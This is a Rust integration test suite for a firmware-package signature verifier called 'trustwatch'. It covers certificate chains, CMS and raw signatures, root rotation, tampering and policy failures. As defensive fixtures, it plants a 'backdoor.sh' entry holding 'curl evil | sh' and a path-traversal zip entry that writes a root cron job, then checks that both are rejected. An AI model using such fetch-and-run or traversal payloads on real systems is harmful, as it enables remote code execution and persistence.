//! `trustwatch verify` end to end: real certificates (rcgen), real signatures (the
//! openssl CLI for CMS, ring for raw), real zips, the real binary and a real store.

mod common;

use common::{reasons, verdict, Alg, Env, Identity, Pki, SigForm, ZipSpec};

fn forms_for(alg: Alg) -> Vec<SigForm> {
    // OpenSSL 3.0 cannot make Ed25519 CMS signatures (see tests/fixtures/README.md).
    if alg == Alg::Ed25519 {
        vec![SigForm::Raw]
    } else {
        vec![SigForm::CmsDer, SigForm::CmsPem, SigForm::Raw]
    }
}

#[test]
fn every_algorithm_and_zip_form_is_trusted_under_an_approved_root() {
    for alg in Alg::ALL {
        let pki = Pki::new(alg);
        for form in forms_for(alg) {
            for folder in [None, Some("Full-upgrade-package-dten")] {
                let env = Env::new();
                env.trust("root", &pki.root.der, "approved");
                let mut spec = ZipSpec::new(&pki, form);
                spec.folder = folder;
                let zip = env.path("pkg.zip");
                spec.write(&zip);
                let (code, r) = env.verify(&[zip.to_str().unwrap()]);
                assert_eq!(
                    verdict(&r),
                    "trusted",
                    "{alg:?} {form:?} {folder:?}: {}",
                    reasons(&r)
                );
                assert_eq!(code, 0);
                assert_eq!(r["signer"]["sha256"], pki.leaf.sha256());
                let chain = r["chain"].as_array().unwrap();
                assert_eq!(chain.len(), 3, "{alg:?} {form:?}: {chain:?}");
                assert_eq!(chain[0]["sha256"], pki.leaf.sha256());
                assert_eq!(chain[1]["sha256"], pki.intermediate.sha256());
                assert_eq!(chain[2]["sha256"], pki.root.sha256());
                assert_eq!(r["anchor"]["sha256"], pki.root.sha256());
                assert_eq!(r["anchor"]["state"], "approved");
                assert_eq!(r["anchor"]["vendor"], "dten");
                let files = r["files"].as_array().unwrap();
                assert_eq!(files.len(), 3);
                assert!(files.iter().all(|f| f["status"] == "ok"), "{files:?}");
                assert_eq!(r["manifest"]["name"], "dten-full-upgrade");
                assert_eq!(r["manifest"]["reboot"], "required");
            }
        }
    }
}

#[test]
fn every_algorithm_in_the_detached_form() {
    for alg in Alg::ALL {
        let pki = Pki::new(alg);
        let env = Env::new();
        env.trust("root", &pki.root.der, "approved");
        let content = b"a firmware image, any size".repeat(1000);
        let file = env.write("firmware.img", &content);
        let certs = env.write(
            "chain.pem",
            common::pem_bundle(&[&pki.leaf.der, &pki.intermediate.der]),
        );
        let raw = env.write("firmware.img.sig", common::raw_sign(&pki.leaf, &content));
        let (code, r) = env.verify(&[
            file.to_str().unwrap(),
            "--signature",
            raw.to_str().unwrap(),
            "--certs",
            certs.to_str().unwrap(),
        ]);
        assert_eq!(
            (code, verdict(&r)),
            (0, "trusted"),
            "{alg:?} raw: {}",
            reasons(&r)
        );
        if alg != Alg::Ed25519 {
            let cms =
                common::openssl_cms(&pki.leaf, &[&pki.intermediate.der], &content, false, &[]);
            let p7s = env.write("firmware.img.p7s", cms);
            let (code, r) =
                env.verify(&[file.to_str().unwrap(), "--signature", p7s.to_str().unwrap()]);
            assert_eq!(
                (code, verdict(&r)),
                (0, "trusted"),
                "{alg:?} cms: {}",
                reasons(&r)
            );
            // Tampered content: the CMS messageDigest no longer matches.
            let mut bad = content.clone();
            bad[7] ^= 1;
            let tampered = env.write("tampered.img", &bad);
            let (code, r) = env.verify(&[
                tampered.to_str().unwrap(),
                "--signature",
                p7s.to_str().unwrap(),
            ]);
            assert_eq!(
                (code, verdict(&r)),
                (1, "invalid"),
                "{alg:?}: {}",
                reasons(&r)
            );
        }
    }
}

#[test]
fn candidate_root_gives_pending_and_empty_store_gives_unknown_signer() {
    let pki = Pki::new(Alg::P256);
    let env = Env::new();
    let zip = env.path("pkg.zip");
    ZipSpec::new(&pki, SigForm::CmsDer).write(&zip);

    let (code, r) = env.verify(&[zip.to_str().unwrap()]);
    assert_eq!(
        (code, verdict(&r)),
        (3, "unknown_signer"),
        "{}",
        reasons(&r)
    );
    assert!(r["anchor"].is_null());
    assert_eq!(r["signer"]["sha256"], pki.leaf.sha256());

    env.trust("root", &pki.root.der, "candidate");
    let (code, r) = env.verify(&[zip.to_str().unwrap()]);
    assert_eq!((code, verdict(&r)), (4, "pending"), "{}", reasons(&r));
    assert_eq!(r["anchor"]["state"], "candidate");

    // Approving it makes the same package trusted.
    let out = env.run(&["trust", "approve", &pki.root.sha256(), "--by", "alice"]);
    common::assert_ok(&out);
    let (code, r) = env.verify(&[zip.to_str().unwrap()]);
    assert_eq!((code, verdict(&r)), (0, "trusted"), "{}", reasons(&r));

    // Revoking it makes it invalid.
    let out = env.run(&[
        "trust",
        "revoke",
        &pki.root.sha256(),
        "--reason",
        "key leaked",
    ]);
    common::assert_ok(&out);
    let (code, r) = env.verify(&[zip.to_str().unwrap()]);
    assert_eq!((code, verdict(&r)), (1, "invalid"), "{}", reasons(&r));
    assert!(reasons(&r).contains("revoked"), "{}", reasons(&r));
}

#[test]
fn vendor_filter_only_counts_that_vendors_anchors() {
    let pki = Pki::new(Alg::P256);
    let env = Env::new();
    env.trust("root", &pki.root.der, "approved");
    let zip = env.path("pkg.zip");
    ZipSpec::new(&pki, SigForm::CmsDer).write(&zip);
    let (code, r) = env.verify(&[zip.to_str().unwrap(), "--vendor", "acme"]);
    assert_eq!(
        (code, verdict(&r)),
        (3, "unknown_signer"),
        "{}",
        reasons(&r)
    );
    let (code, _) = env.verify(&[zip.to_str().unwrap(), "--vendor", "dten"]);
    assert_eq!(code, 0);
}

#[test]
fn cross_signed_rotation_reaches_the_old_approved_root() {
    let old_root = Identity::root("DTEN Root CA 2019", Alg::P256);
    let new_root = Identity::root("DTEN Code Signing Root 2026", Alg::P384);
    let cross = old_root.cross_sign(&new_root);
    let intermediate = new_root.intermediate("DTEN Code Signing CA 2026", Alg::P256, Some(0));
    let leaf = intermediate.leaf("DTEN Release Signing 2026", Alg::P256);
    let env = Env::new();
    env.trust("old-root", &old_root.der, "approved");
    env.trust("new-root", &new_root.der, "candidate");

    // Without the cross-signature only the candidate is reachable.
    let pki = Pki {
        root: new_root,
        intermediate,
        leaf,
    };
    let zip = env.path("pending.zip");
    ZipSpec::new(&pki, SigForm::CmsDer).write(&zip);
    let (code, r) = env.verify(&[zip.to_str().unwrap()]);
    assert_eq!((code, verdict(&r)), (4, "pending"), "{}", reasons(&r));

    // With it, the approved old root is reached through the cross-signed new root.
    let mut spec = ZipSpec::new(&pki, SigForm::CmsDer);
    spec.chain.push(&cross);
    let zip = env.path("trusted.zip");
    spec.write(&zip);
    let (code, r) = env.verify(&[zip.to_str().unwrap()]);
    assert_eq!((code, verdict(&r)), (0, "trusted"), "{}", reasons(&r));
    assert_eq!(r["anchor"]["sha256"], old_root.sha256());
    let chain = r["chain"].as_array().unwrap();
    assert_eq!(chain.len(), 4, "{chain:?}");
    assert_eq!(chain[2]["sha256"], common::sha256_hex(&cross));
}

/// Build a zip from the standard spec, let `tamper` edit the entries, verify with the
/// root approved, and return the report.
fn verify_tampered(
    pki: &Pki,
    form: SigForm,
    tamper: impl FnOnce(&mut Vec<(String, Vec<u8>)>),
) -> (i32, serde_json::Value) {
    let env = Env::new();
    env.trust("root", &pki.root.der, "approved");
    let mut entries = ZipSpec::new(pki, form).entries();
    tamper(&mut entries);
    let zip = env.path("pkg.zip");
    common::write_zip(&zip, &entries);
    env.verify(&[zip.to_str().unwrap()])
}

fn entry<'a>(entries: &'a mut [(String, Vec<u8>)], name: &str) -> &'a mut Vec<u8> {
    &mut entries.iter_mut().find(|(n, _)| n == name).unwrap().1
}

#[test]
fn tampered_missing_and_unlisted_files_are_invalid() {
    let pki = Pki::new(Alg::P256);
    let (code, r) = verify_tampered(&pki, SigForm::CmsDer, |e| {
        entry(e, "bin/dten-agent")[3] ^= 0x20;
    });
    assert_eq!((code, verdict(&r)), (1, "invalid"));
    let files = r["files"].as_array().unwrap();
    assert!(files
        .iter()
        .any(|f| f["path"] == "bin/dten-agent" && f["status"] == "mismatch"));
    // The signer is still reported, so a person can see who signed it.
    assert_eq!(r["signer"]["sha256"], pki.leaf.sha256());

    let (code, r) = verify_tampered(&pki, SigForm::CmsDer, |e| {
        e.retain(|(n, _)| n != "scripts/install.sh");
    });
    assert_eq!(code, 1);
    assert!(r["files"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["path"] == "scripts/install.sh" && f["status"] == "missing"));

    let (code, r) = verify_tampered(&pki, SigForm::CmsDer, |e| {
        e.push(("scripts/backdoor.sh".into(), b"curl evil | sh".to_vec()));
    });
    assert_eq!(code, 1);
    assert!(r["files"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["path"] == "scripts/backdoor.sh" && f["status"] == "unlisted"));
}

#[test]
fn a_manifest_edited_after_signing_is_invalid_in_every_form() {
    for alg in [Alg::P256, Alg::Rsa2048, Alg::Ed25519] {
        let pki = Pki::new(alg);
        for form in forms_for(alg) {
            let (code, r) = verify_tampered(&pki, form, |e| {
                let m = entry(e, "manifest.json");
                let text = String::from_utf8(m.clone()).unwrap();
                *m = text.replace("7.4.0", "7.4.1").into_bytes();
            });
            assert_eq!((code, verdict(&r)), (1, "invalid"), "{alg:?} {form:?}");
            assert!(reasons(&r).contains("signature"), "{}", reasons(&r));
        }
    }
}

/// (name, signing leaf, certificates shipped with it, --at).
type PolicyCase = (&'static str, Identity, Vec<Vec<u8>>, Option<&'static str>);

#[test]
fn certificate_policy_failures_are_invalid() {
    let root = Identity::root("Root", Alg::P256);
    let intermediate = root.intermediate("CA", Alg::P256, Some(0));

    let cases: Vec<PolicyCase> = vec![
        (
            "expired",
            intermediate.leaf("Leaf", Alg::P256),
            vec![intermediate.der.clone()],
            Some("2045-01-01T00:00:00Z"),
        ),
        (
            "not yet valid",
            intermediate.leaf("Leaf", Alg::P256),
            vec![intermediate.der.clone()],
            Some("2001-01-01T00:00:00Z"),
        ),
        (
            "serverAuth leaf",
            intermediate.leaf_with("Leaf", Alg::P256, |p| {
                p.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ServerAuth];
            }),
            vec![intermediate.der.clone()],
            None,
        ),
        (
            "leaf without EKU",
            intermediate.leaf_with("Leaf", Alg::P256, |p| p.extended_key_usages.clear()),
            vec![intermediate.der.clone()],
            None,
        ),
    ];
    // An issuer that is not a CA.
    let not_ca = intermediate.leaf("Not a CA", Alg::P256);
    let under_not_ca = not_ca.leaf("Leaf", Alg::P256);
    // A path-length violation: intermediate (pathlen 0) -> sub-CA -> leaf.
    let sub_ca = intermediate.intermediate("Sub CA", Alg::P256, None);
    let under_sub = sub_ca.leaf("Leaf", Alg::P256);
    let mut cases = cases;
    cases.push((
        "issuer not a CA",
        under_not_ca,
        vec![not_ca.der.clone(), intermediate.der.clone()],
        None,
    ));
    cases.push((
        "path length",
        under_sub,
        vec![sub_ca.der.clone(), intermediate.der.clone()],
        None,
    ));

    for (name, leaf, chain, at) in &cases {
        let env = Env::new();
        env.trust("root", &root.der, "approved");
        let files = common::payload();
        let listed: Vec<(&str, &[u8])> = files
            .iter()
            .map(|(p, d)| (p.as_str(), d.as_slice()))
            .collect();
        let manifest = common::manifest_json(&listed);
        let sig = common::openssl_cms(leaf, &[], &manifest, false, &[]);
        let mut certs: Vec<&[u8]> = vec![&leaf.der];
        certs.extend(chain.iter().map(Vec::as_slice));
        let mut entries = files.clone();
        entries.push(("manifest.json".into(), manifest));
        entries.push(("manifest.json.p7s".into(), sig));
        entries.push(("chain.pem".into(), common::pem_bundle(&certs).into_bytes()));
        let zip = env.path("pkg.zip");
        common::write_zip(&zip, &entries);
        let mut args = vec![zip.to_str().unwrap()];
        if let Some(at) = at {
            args.extend(["--at", at]);
        }
        let (code, r) = env.verify(&args);
        assert_eq!(
            (code, verdict(&r)),
            (1, "invalid"),
            "{name}: {}",
            reasons(&r)
        );
        assert!(reasons(&r).contains("chain"), "{name}: {}", reasons(&r));
    }
}

#[test]
fn weak_digest_and_garbage_signatures_are_invalid() {
    let pki = Pki::new(Alg::Rsa2048);
    let (code, r) = verify_tampered(&pki, SigForm::CmsDer, |e| {
        let manifest = entry(e, "manifest.json").clone();
        *entry(e, "manifest.json.p7s") =
            common::openssl_cms(&pki.leaf, &[], &manifest, false, &["-md", "sha1"]);
    });
    assert_eq!((code, verdict(&r)), (1, "invalid"));
    assert!(
        reasons(&r).to_lowercase().contains("sha-1") || reasons(&r).to_lowercase().contains("sha1"),
        "{}",
        reasons(&r)
    );

    let (code, r) = verify_tampered(&pki, SigForm::CmsDer, |e| {
        *entry(e, "manifest.json.p7s") = b"\x30\x82\xff\xff garbage".to_vec();
    });
    assert_eq!((code, verdict(&r)), (1, "invalid"), "{}", reasons(&r));

    // Signed by a key that is not the certificate's.
    let other = Pki::new(Alg::Rsa2048);
    let (code, r) = verify_tampered(&pki, SigForm::Raw, |e| {
        let manifest = entry(e, "manifest.json").clone();
        *entry(e, "manifest.json.sig") = common::raw_sign(&other.leaf, &manifest);
    });
    assert_eq!((code, verdict(&r)), (1, "invalid"), "{}", reasons(&r));
}

#[test]
fn hostile_archives_are_invalid_without_panic() {
    let pki = Pki::new(Alg::P256);
    let (code, r) = verify_tampered(&pki, SigForm::CmsDer, |e| {
        e.push((
            "../../etc/cron.d/evil".into(),
            b"* * * * * root sh".to_vec(),
        ));
    });
    assert_eq!((code, verdict(&r)), (1, "invalid"));
    assert!(reasons(&r).contains("unsafe name"), "{}", reasons(&r));

    let (code, r) = verify_tampered(&pki, SigForm::CmsDer, |e| {
        e.retain(|(n, _)| n != "manifest.json.p7s");
    });
    assert_eq!((code, verdict(&r)), (1, "invalid"));
    assert!(reasons(&r).contains("no signature"), "{}", reasons(&r));

    let env = Env::new();
    for (name, bytes) in [
        ("empty.zip", Vec::new()),
        (
            "garbage.zip",
            b"PK\x03\x04 this is not really a zip".to_vec(),
        ),
    ] {
        let p = env.write(name, bytes);
        let (code, r) = env.verify(&[p.to_str().unwrap()]);
        assert_eq!((code, verdict(&r)), (1, "invalid"), "{name}");
        assert!(r["signer"].is_null());
    }
    // A truncated real package.
    let full = env.path("full.zip");
    ZipSpec::new(&pki, SigForm::CmsDer).write(&full);
    let bytes = std::fs::read(&full).unwrap();
    let cut = env.write("cut.zip", &bytes[..bytes.len() * 2 / 3]);
    let (code, _) = env.verify(&[cut.to_str().unwrap()]);
    assert_eq!(code, 1);
}

#[test]
fn usage_errors_exit_2() {
    let env = Env::new();
    let out = env.run(&["verify", "/nonexistent/package.zip"]);
    assert_eq!(out.status.code(), Some(2), "{}", common::stderr(&out));
    assert!(common::stderr(&out).contains("does not exist"));
    let pkg = env.write("x.zip", b"x");
    let out = env.run(&["verify", pkg.to_str().unwrap(), "--at", "yesterday"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(common::stderr(&out).contains("RFC 3339"));
    let out = env.run(&["verify", pkg.to_str().unwrap(), "--no-such-flag"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn text_output_puts_the_verdict_first() {
    let pki = Pki::new(Alg::P256);
    let env = Env::new();
    let zip = env.path("pkg.zip");
    ZipSpec::new(&pki, SigForm::CmsDer).write(&zip);
    let out = env.run(&["verify", zip.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3));
    let text = common::stdout(&out);
    assert!(text.starts_with("UNKNOWN SIGNER"), "{text}");
    assert!(text.contains(&pki.leaf.sha256()));
    assert!(text.contains("trustwatch escalate"));
    env.trust("root", &pki.root.der, "approved");
    let out = env.run(&["verify", zip.to_str().unwrap()]);
    let text = common::stdout(&out);
    assert!(text.starts_with("TRUSTED"), "{text}");
    let why = text.find("why:").unwrap();
    let chain = text.find("chain (signer first):").unwrap();
    assert!(why < chain, "{text}");
}

/// Our verdict on signature + chain agrees with `openssl cms -verify` on the same files.
#[test]
fn verdicts_agree_with_openssl_cms_verify() {
    let pki = Pki::new(Alg::P256);
    let env = Env::new();
    env.trust("root", &pki.root.der, "approved");
    let content = b"manifest bytes".to_vec();
    let sig = common::openssl_cms(&pki.leaf, &[&pki.intermediate.der], &content, false, &[]);
    let sig_path = env.write("m.p7s", &sig);
    let root_path = env.write("root.pem", pki.root.pem());
    for (name, data) in [
        ("good", content.clone()),
        ("bad", b"manifest bytez".to_vec()),
    ] {
        let file = env.write(name, &data);
        let openssl = std::process::Command::new("openssl")
            .args([
                "cms", "-verify", "-binary", "-inform", "DER", "-purpose", "any",
            ])
            .arg("-in")
            .arg(&sig_path)
            .arg("-content")
            .arg(&file)
            .arg("-CAfile")
            .arg(&root_path)
            .args(["-out", "/dev/null"])
            .output()
            .unwrap();
        let (code, r) = env.verify(&[
            file.to_str().unwrap(),
            "--signature",
            sig_path.to_str().unwrap(),
        ]);
        assert_eq!(
            openssl.status.success(),
            code == 0,
            "{name}: openssl says {:?}, we say {} ({})",
            openssl.status,
            verdict(&r),
            reasons(&r)
        );
    }
}
